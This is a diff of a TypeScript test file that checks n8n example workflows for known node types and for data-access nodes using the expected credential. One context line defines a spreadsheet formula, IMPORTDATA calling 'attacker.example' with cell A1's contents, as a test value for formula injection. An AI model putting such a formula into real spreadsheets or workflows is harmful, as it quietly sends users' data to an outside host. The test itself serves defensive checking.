@@ -24,6 +24,9 @@ import { activate, deactivate, saveWorkflow } from '../harness/workflows.mts';
 import type { Workflow } from '../harness/workflows.mts';
 import { API_KEY } from '../harness/world.mts';
 
+/** An agent that calls the gateway by itself, and what an execution starts that has failed. */
+const WITHOUT_OUR_NODE = ['mcp-client-agent', 'tell-what-failed'];
+
 /** A title that Google Sheets runs if it takes it for what a person typed. */
 const FORMULA = '=IMPORTDATA("https://attacker.example/?"&A1)';
 
@@ -88,10 +91,16 @@ export function testExamples(world: RegularMode): void {
 		});
 
 		for (const name of exampleNames()) {
-			test(`${name} has nodes that this n8n has`, async () => {
-				const { nodes } = await saveWorkflow(world.rest, example(name));
-				for (const { type, typeVersion } of nodes) {
+			test(`${name} has nodes that this n8n has, and takes the credential by its name`, async () => {
+				const { rest, credentialId } = world;
+				const saved = await saveWorkflow(rest, example(name));
+				for (const { type, typeVersion } of saved.nodes) {
 					assert.ok(known.get(type)?.includes(typeVersion), `n8n has no ${type} ${typeVersion}`);
+				}
+				const ours = saved.nodes.filter(({ type }) => /\.dataAccess(Trigger|Tool)?$/.test(type));
+				assert.equal(ours.length === 0, WITHOUT_OUR_NODE.includes(name));
+				for (const { credentials } of ours) {
+					assert.equal(credentials?.dataAccessApi?.id, credentialId);
 				}
 			});
 		}
